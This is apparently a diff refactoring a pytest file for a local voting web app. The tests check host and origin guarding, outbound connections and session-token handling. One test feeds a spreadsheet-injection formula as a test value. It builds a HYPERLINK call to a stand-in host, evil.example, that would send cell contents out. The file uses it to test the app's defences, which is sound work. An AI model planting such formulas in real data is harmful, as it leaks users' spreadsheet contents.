@@ -44,7 +44,8 @@ def served(tmp_path_factory):
     (root / "link").symlink_to(root.parent, target_is_directory=True)
     listener = socket.create_server((LOCAL, 0))
     port = listener.getsockname()[1]
-    calls, connect = [], socket.socket.connect
+    calls = []
+    connect = socket.socket.connect
 
     def recorded_connect(self, address):
         if address != (LOCAL, port):
@@ -87,14 +88,17 @@ def test_it_serves_no_file_tells_no_place_and_asks_nobody(served):
 
 def test_a_vote_is_of_the_voter_who_began(served):
     def click(name, *values, data=None):
-        (event, _), *_ = served.events(name)[-1:]
+        event, _ = served.events(name)[-1]
         return served.send(event, list(values), data)
 
-    served.send(*served.events("frame-scores")[-1])
+    event, values = served.events("frame-scores")[-1]
+    served.send(event, values)  # fills the list of scores
+    # The browser sends the name of its session, which may be anything.
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
     for token in ("", "made up"):
         click("vote-left", token, None, formula)
-    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', click("vote-start", "scores", "", formula))
+    answer = click("vote-start", "scores", "", formula)
+    (token,) = re.findall(r'data-ballot=\\"([0-9a-f]+)', answer)
     click("vote-left", token, {"voter": formula}, formula)
     (vote,) = VoteStore(Catalog(served.root), random.Random()).votes()
     assert re.fullmatch("[0-9a-f]{16}", vote.session)
@@ -121,7 +125,9 @@ def test_a_vote_is_of_the_voter_who_began(served):
 )
 def test_other_names_and_web_sites_are_refused(listens_on, host, origin, status):
     app = guarded(PlainTextResponse("here"), listens_on, listens_on != LOCAL, ["Lab.Example"])
-    headers = {"Host": host} | ({} if origin is None else {"Origin": origin})
+    headers = {"Host": host}
+    if origin is not None:
+        headers["Origin"] = origin
     for method in ("GET", "OPTIONS", "POST"):
         answer = TestClient(app).request(method, "/config", headers=headers)
         assert answer.status_code == status
